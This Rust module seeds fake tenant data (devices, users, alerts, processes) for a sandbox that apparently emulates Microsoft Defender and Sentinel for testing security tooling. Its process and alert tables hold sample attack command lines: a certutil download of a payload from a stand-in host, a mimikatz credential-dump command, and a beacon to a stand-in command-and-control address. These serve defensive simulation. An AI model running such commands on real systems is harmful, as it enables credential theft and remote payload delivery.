//! Deterministic tenant data: everything is drawn from random streams seeded with the sandbox
//! seed (one per tenant and kind of record, see `Streams`), with timestamps relative to the start
//! time.

use std::collections::HashMap;

use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use serde_json::{Value, json};
use time::{Duration, OffsetDateTime};

use crate::defender::{
    Alert, FileInfo, Indicator, IpAddressInfo, LibraryFile, LogonUser, Machine, MachineAction,
};
use crate::kql::{ColType, Column, Database, Table, Value as K};
use crate::state::MachineState;
use crate::util::{fmt_time, guid_from, hex_from};
use crate::{SandboxTenant, SandboxWorkspace};

mod actions;
mod alerts;
mod detection_rules;
mod devices;
mod files;
mod hunting;
mod identities;
mod indicators;
mod workspaces;

/// One Log Analytics workspace (with Sentinel) and its data.
pub struct WorkspaceData {
    pub public: SandboxWorkspace,
    pub location: String,
    pub retention_in_days: i64,
    pub created: OffsetDateTime,
    /// Sentinel analytics rules (ARM resources as JSON).
    pub alert_rules: Vec<Value>,
    /// Sentinel incidents (ARM resources as JSON).
    pub incidents: Vec<Value>,
    /// Incident name → comments (ARM resources as JSON).
    pub incident_comments: HashMap<String, Vec<Value>>,
    /// Log tables for the query API.
    pub logs: Database,
    /// Per-table retention and plan (ARM `tables` resource); absent = workspace defaults.
    pub table_settings: HashMap<String, TableSettings>,
    /// Templates, watchlists, automation rules, saved searches, workbooks, data collection
    /// and incident evidence.
    pub content: crate::content::WorkspaceContent,
}

/// Table-level settings changed through ARM (`-1` = the workspace default).
#[derive(Debug, Clone)]
pub struct TableSettings {
    pub retention_in_days: i64,
    pub total_retention_in_days: i64,
    pub plan: String,
    pub last_plan_modified: OffsetDateTime,
    /// Description of a custom (`_CL`) table, given when it was created.
    pub description: Option<String>,
}

/// An ARM long-running operation (polled through `Azure-AsyncOperation`).
#[derive(Debug, Clone)]
pub struct ArmOperation {
    pub id: String,
    pub subscription_id: String,
    pub location: String,
    pub started: OffsetDateTime,
    pub started_at: std::time::Instant,
    /// `(code, message)` when the operation ends `Failed` instead of `Succeeded`.
    pub error: Option<(String, String)>,
}

/// Everything one tenant holds.
pub struct TenantData {
    pub public: SandboxTenant,
    pub machines: Vec<Machine>,
    pub logon_users: HashMap<String, Vec<LogonUser>>,
    pub actions: Vec<MachineAction>,
    pub alerts: Vec<Alert>,
    pub indicators: Vec<Indicator>,
    pub next_indicator_id: u64,
    pub library: Vec<LibraryFile>,
    pub files: Vec<FileInfo>,
    /// Advanced hunting tables (Device*, Alert*).
    pub hunting: Database,
    /// Graph security incidents (JSON in Graph shape, without `alerts`).
    pub graph_incidents: Vec<Value>,
    /// Graph beta custom detection rules.
    pub detection_rules: Vec<Value>,
    pub workspaces: Vec<WorkspaceData>,
    /// ARM long-running operations by id.
    pub arm_operations: Vec<ArmOperation>,
}

struct TenantSpec {
    id: &'static str,
    name: &'static str,
    domain: &'static str,
    netbios: &'static str,
    subnet: u8,
    external_prefix: &'static str,
    workspaces: &'static [(&'static str, &'static str, &'static str)],
}

const TENANTS: &[TenantSpec] = &[
    TenantSpec {
        id: "11111111-1111-4111-8111-111111111111",
        name: "Contoso",
        domain: "contoso",
        netbios: "CONTOSO",
        subnet: 10,
        external_prefix: "20.103",
        workspaces: &[
            ("rg-sentinel-prod", "law-contoso-sentinel", "westeurope"),
            ("rg-sentinel-dev", "law-contoso-dev", "northeurope"),
        ],
    },
    TenantSpec {
        id: "22222222-2222-4222-8222-222222222222",
        name: "Fabrikam",
        domain: "fabrikam",
        netbios: "FABRIKAM",
        subnet: 20,
        external_prefix: "40.112",
        workspaces: &[("rg-soc", "law-fabrikam-soc", "eastus")],
    },
];

/// `extra_workstations`: onboarded, active workstations added to each tenant after the seeded
/// 50 (for bulk-action tests that need a large fleet); the seeded data stays the same.
pub fn generate(seed: u64, base_url: &str, extra_workstations: usize) -> Vec<TenantData> {
    let now = OffsetDateTime::now_utc();
    TENANTS
        .iter()
        .enumerate()
        .map(|(i, spec)| {
            // Per-tenant streams: different data per tenant, stable per seed.
            let tenant_seed = seed
                .wrapping_mul(0x9E37_79B9_7F4A_7C15)
                .wrapping_add(i as u64 + 1);
            let streams = Streams { tenant_seed };
            let mut data = tenant(&streams, spec, now, base_url, i == 0);
            add_fleet(&mut data, extra_workstations, tenant_seed ^ 0xF1EE7);
            data
        })
        .collect()
}

/// Copies of a seeded active Windows workstation with their own ids, names and addresses.
fn add_fleet(data: &mut TenantData, count: usize, seed: u64) {
    let Some(template) = data
        .machines
        .iter()
        .find(|m| {
            m.onboarding_status == "Onboarded"
                && m.health_status == "Active"
                && m.os_platform.starts_with("Windows1")
        })
        .cloned()
    else {
        return;
    };
    let domain = template
        .computer_dns_name
        .split_once('.')
        .map(|(_, d)| d.to_string())
        .unwrap_or_default();
    let mut rng = StdRng::seed_from_u64(seed);
    for n in 0..count {
        let mut machine = template.clone();
        machine.id = hex_from(&mut rng, 20);
        machine.computer_dns_name = format!("ws-fleet-{n:04}.{domain}");
        machine.last_ip_address = format!("10.200.{}.{}", n / 250, n % 250 + 1);
        machine.aad_device_id = Some(guid_from(&mut rng));
        machine.machine_tags = vec!["Fleet".to_string()];
        data.machines.push(machine);
    }
}

/// One tenant's random streams, one per kind of record: a draw added to one kind changes only
/// the records of that kind, never those seeded after it.
struct Streams {
    tenant_seed: u64,
}

impl Streams {
    fn of(&self, kind: &str) -> StdRng {
        // FNV-1a of the kind's name: stable across builds and platforms (std's hasher is not).
        let name = kind.bytes().fold(0xcbf2_9ce4_8422_2325u64, |hash, byte| {
            (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
        });
        StdRng::seed_from_u64(self.tenant_seed ^ name)
    }
}

fn ago(rng: &mut StdRng, now: OffsetDateTime, min: Duration, max: Duration) -> OffsetDateTime {
    let span = (max - min).whole_seconds().max(1);
    now - min
        - Duration::seconds(rng.random_range(0..span))
        - Duration::milliseconds(rng.random_range(0..1000))
}

/// A log timestamp within the last week; the first row of each table is from the last few
/// minutes so that connected tables look continuously fed.
fn fresh(rng: &mut StdRng, now: OffsetDateTime, newest: bool) -> OffsetDateTime {
    if newest {
        ago(rng, now, Duration::minutes(1), Duration::minutes(5))
    } else {
        ago(rng, now, Duration::minutes(1), Duration::days(7))
    }
}

fn pick<'a, T>(rng: &mut StdRng, items: &'a [T]) -> &'a T {
    // The pools are non-empty constants.
    items.choose(rng).unwrap_or(&items[0])
}

struct User {
    upn: String,
    display: String,
    account: String,
    sid: String,
    object_id: String,
    admin: bool,
}

const FIRST: &[&str] = &[
    "Alice", "Bruno", "Chen", "Dana", "Elif", "Farid", "Grace", "Hiro", "Ines", "Jonas", "Kemal",
    "Lena", "Mateo", "Nia", "Olga", "Priya",
];
const LAST: &[&str] = &[
    "Nguyen", "Schmidt", "Okafor", "Rossi", "Kowalski", "Tanaka", "Silva", "Haddad", "Larsen",
    "Moreau", "Patel", "Novak",
];
const DEPTS: &[&str] = &["fin", "hr", "eng", "ops", "sales", "it", "legal", "mkt"];

struct Proc {
    name: &'static str,
    folder: &'static str,
    cmd: &'static str,
    publisher: Option<&'static str>,
    malicious: bool,
}

const PROCS: &[Proc] = &[
    Proc {
        name: "svchost.exe",
        folder: "C:\\Windows\\System32",
        cmd: "svchost.exe -k netsvcs -p -s Schedule",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "chrome.exe",
        folder: "C:\\Program Files\\Google\\Chrome\\Application",
        cmd: "\"chrome.exe\" --type=renderer",
        publisher: Some("Google LLC"),
        malicious: false,
    },
    Proc {
        name: "ms-teams.exe",
        folder: "C:\\Program Files\\WindowsApps\\MSTeams",
        cmd: "\"ms-teams.exe\" --system-initiated",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "OUTLOOK.EXE",
        folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        cmd: "\"OUTLOOK.EXE\" /recycle",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "WINWORD.EXE",
        folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        cmd: "\"WINWORD.EXE\" /n",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "powershell.exe",
        folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        cmd: "powershell.exe -NoProfile -Command Get-Service",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "cmd.exe",
        folder: "C:\\Windows\\System32",
        cmd: "cmd.exe /c ipconfig /all",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "msedge.exe",
        folder: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
        cmd: "\"msedge.exe\" --single-argument",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "sqlservr.exe",
        folder: "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn",
        cmd: "sqlservr.exe -sMSSQLSERVER",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "certutil.exe",
        folder: "C:\\Windows\\System32",
        cmd: "certutil.exe -urlcache -split -f http://cdn-update.fabrikam-cdn.example/payload.bin C:\\Users\\Public\\p.bin",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "mimikatz.exe",
        folder: "C:\\Users\\Public\\Downloads",
        cmd: "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
        publisher: None,
        malicious: true,
    },
    Proc {
        name: "invoice_2024.docm",
        folder: "C:\\Users\\Public\\Downloads",
        cmd: "",
        publisher: None,
        malicious: true,
    },
    Proc {
        name: "svch0st.exe",
        folder: "C:\\ProgramData\\Updater",
        cmd: "svch0st.exe --beacon 203.0.113.50:443",
        publisher: None,
        malicious: true,
    },
    Proc {
        name: "wacatac.dll",
        folder: "C:\\Users\\Public\\AppData",
        cmd: "rundll32.exe C:\\Users\\Public\\AppData\\wacatac.dll,Start",
        publisher: None,
        malicious: true,
    },
];

const BENIGN_REMOTE: &[(&str, &str, i64)] = &[
    ("20.190.151.7", "login.microsoftonline.com", 443),
    ("52.96.165.18", "outlook.office365.com", 443),
    ("13.107.42.14", "www.office.com", 443),
    ("140.82.121.4", "github.com", 443),
    ("142.250.185.78", "www.google.com", 443),
    ("13.107.6.158", "teams.microsoft.com", 443),
    ("20.42.73.29", "winatp-gw-weu.microsoft.com", 443),
];

const MALICIOUS_REMOTE: &[(&str, &str, i64)] = &[
    ("203.0.113.50", "c2.badactor.example", 443),
    ("198.51.100.23", "cdn-update.fabrikam-cdn.example", 80),
    ("203.0.113.77", "login-micros0ft.example", 443),
];

struct AlertTemplate {
    title: &'static str,
    category: &'static str,
    severity: &'static str,
    source: &'static str,
    technique: &'static str,
    family: Option<&'static str>,
    file: Option<&'static str>,
    remote: Option<usize>,
    description: &'static str,
}

const ALERT_TEMPLATES: &[AlertTemplate] = &[
    AlertTemplate {
        title: "Suspicious PowerShell command line",
        category: "Execution",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        technique: "T1059.001",
        family: None,
        file: Some("powershell.exe"),
        remote: None,
        description: "A suspicious PowerShell command line with an encoded payload was observed.",
    },
    AlertTemplate {
        title: "Mimikatz credential theft tool",
        category: "CredentialAccess",
        severity: "High",
        source: "WindowsDefenderAv",
        technique: "T1003.001",
        family: Some("Mimikatz"),
        file: Some("mimikatz.exe"),
        remote: None,
        description: "The credential theft tool Mimikatz was detected and was active on this device.",
    },
    AlertTemplate {
        title: "Connection to a known command-and-control server",
        category: "CommandAndControl",
        severity: "High",
        source: "WindowsDefenderAtp",
        technique: "T1071.001",
        family: None,
        file: Some("svch0st.exe"),
        remote: Some(0),
        description: "A process connected to an IP address associated with command-and-control activity.",
    },
    AlertTemplate {
        title: "Suspicious file dropped by an Office application",
        category: "InitialAccess",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        technique: "T1566.001",
        family: None,
        file: Some("invoice_2024.docm"),
        remote: None,
        description: "An Office application dropped a macro-enabled document in a user's Downloads folder.",
    },
    AlertTemplate {
        title: "'Wacatac' malware was detected",
        category: "Malware",
        severity: "High",
        source: "WindowsDefenderAv",
        technique: "T1204.002",
        family: Some("Wacatac"),
        file: Some("wacatac.dll"),
        remote: None,
        description: "Trojan:Win32/Wacatac was detected and blocked.",
    },
    AlertTemplate {
        title: "Suspicious file download using certutil",
        category: "DefenseEvasion",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        technique: "T1105",
        family: None,
        file: Some("certutil.exe"),
        remote: Some(1),
        description: "certutil.exe was used to download a file from the internet.",
    },
    AlertTemplate {
        title: "Multiple failed sign-in attempts (brute force)",
        category: "CredentialAccess",
        severity: "Low",
        source: "WindowsDefenderAtp",
        technique: "T1110",
        family: None,
        file: None,
        remote: Some(0),
        description: "Many failed logons from a single remote address were observed.",
    },
    AlertTemplate {
        title: "Suspicious scheduled task",
        category: "Persistence",
        severity: "Low",
        source: "WindowsDefenderAtp",
        technique: "T1053.005",
        family: None,
        file: None,
        remote: None,
        description: "A scheduled task that runs from a user-writable folder was created.",
    },
    AlertTemplate {
        title: "Anomalous account lookups",
        category: "Discovery",
        severity: "Informational",
        source: "WindowsDefenderAtp",
        technique: "T1087.002",
        family: None,
        file: None,
        remote: None,
        description: "An unusual number of account enumeration queries were made.",
    },
    AlertTemplate {
        title: "Connection to a phishing site",
        category: "InitialAccess",
        severity: "Medium",
        source: "SmartScreen",
        technique: "T1566.002",
        family: None,
        file: None,
        remote: Some(2),
        description: "A browser connected to a site impersonating a Microsoft sign-in page.",
    },
];

fn tenant(
    streams: &Streams,
    spec: &TenantSpec,
    now: OffsetDateTime,
    _base_url: &str,
    stale_first_workspace: bool,
) -> TenantData {
    // Each kind of record is drawn from its own stream (see `Streams`).
    let users = identities::users(&mut streams.of("users"), spec);
    let machines = devices::machines(&mut streams.of("machines"), spec, now);
    let logon_users =
        devices::logon_users(&mut streams.of("logon users"), spec, now, &machines, &users);
    let files = files::files(&mut streams.of("files"), now);
    let (alerts, incident_ids) = alerts::alerts(
        &mut streams.of("alerts"),
        spec,
        now,
        &machines,
        &users,
        &files,
    );
    let hunting = hunting::hunting_tables(
        &mut streams.of("hunting"),
        now,
        &machines,
        &users,
        spec,
        &files,
        &alerts,
    );
    let graph_incidents = alerts::graph_incidents(
        &mut streams.of("graph incidents"),
        now,
        spec,
        &alerts,
        &incident_ids,
        &users,
    );
    let actions =
        actions::machine_actions(&mut streams.of("machine actions"), now, &machines, &users);
    let (indicators, next_indicator_id, library) =
        indicators::indicators(&mut streams.of("indicators"), now, &users, &files);
    let detection_rules =
        detection_rules::detection_rules(&mut streams.of("detection rules"), now, &users);

    // Workspaces.
    let workspaces = spec
        .workspaces
        .iter()
        .enumerate()
        .map(|(wi, (rg, name, location))| {
            let rng = &mut streams.of(&format!("workspace {name}"));
            let public = SandboxWorkspace {
                subscription_id: guid_from(rng),
                resource_group: (*rg).into(),
                name: (*name).into(),
                customer_id: guid_from(rng),
            };
            workspaces::workspace(
                rng,
                now,
                spec,
                public,
                location,
                &machines,
                &users,
                stale_first_workspace && wi == 0,
            )
        })
        .collect::<Vec<_>>();

    TenantData {
        public: SandboxTenant {
            tenant_id: spec.id.into(),
            display_name: spec.name.into(),
            workspaces: workspaces.iter().map(|w| w.public.clone()).collect(),
        },
        machines,
        logon_users,
        actions,
        alerts,
        indicators,
        next_indicator_id,
        library,
        files,
        hunting,
        graph_incidents,
        detection_rules,
        workspaces,
        arm_operations: Vec::new(),
    }
}

fn s(v: impl Into<String>) -> K {
    K::String(v.into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_kind_of_record_has_its_own_stream() {
        let streams = Streams { tenant_seed: 7 };
        let draw = |kind: &str| streams.of(kind).random::<u64>();
        assert_eq!(draw("machines"), draw("machines"), "a stream is stable");
        assert_ne!(draw("machines"), draw("users"));
        assert_ne!(
            draw("machines"),
            Streams { tenant_seed: 8 }.of("machines").random::<u64>(),
            "and differs per tenant"
        );
    }

    #[test]
    fn deterministic_and_distinct_per_tenant() {
        let a = generate(7, "https://x", 0);
        let b = generate(7, "https://x", 0);
        assert_eq!(a.len(), 2);
        assert_eq!(a[0].machines.len(), 50);
        assert_eq!(a[1].machines.len(), 50);
        let ids = |t: &TenantData| t.machines.iter().map(|m| m.id.clone()).collect::<Vec<_>>();
        assert_eq!(ids(&a[0]), ids(&b[0]));
        assert_ne!(ids(&a[0]), ids(&a[1]));
        assert_eq!(a[0].public.workspaces.len(), 2);
        assert_eq!(a[1].public.workspaces.len(), 1);
        assert!(a[0].machines.iter().all(|m| m.id.len() == 40));
        assert!(
            a[0].machines
                .iter()
                .any(|m| m.onboarding_status == "CanBeOnboarded")
        );
        assert!(
            a[0].machines[0]
                .computer_dns_name
                .ends_with(".contoso.local")
        );
        assert!(
            a[1].machines[0]
                .computer_dns_name
                .ends_with(".fabrikam.local")
        );
        let c = generate(8, "https://x", 0);
        assert_ne!(ids(&a[0]), ids(&c[0]));
        for t in &a {
            for w in &t.workspaces {
                assert!((18..=22).contains(&w.alert_rules.len()));
                assert!(
                    w.alert_rules
                        .iter()
                        .any(|r| r["properties"]["enabled"] == false)
                );
            }
        }
    }

    #[test]
    fn a_fleet_adds_distinct_active_workstations_and_keeps_the_seed() {
        let plain = generate(7, "https://x", 0);
        let fleet = generate(7, "https://x", 500);
        assert_eq!(fleet[0].machines.len(), 550);
        let ids = |t: &TenantData| t.machines.iter().map(|m| m.id.clone()).collect::<Vec<_>>();
        assert_eq!(ids(&fleet[0])[..50], ids(&plain[0])[..]);
        let unique: std::collections::HashSet<_> = ids(&fleet[0]).into_iter().collect();
        assert_eq!(unique.len(), 550);
        assert!(fleet[0].machines[50..].iter().all(|m| {
            m.onboarding_status == "Onboarded"
                && m.health_status == "Active"
                && m.computer_dns_name.starts_with("ws-fleet-")
        }));
    }
}
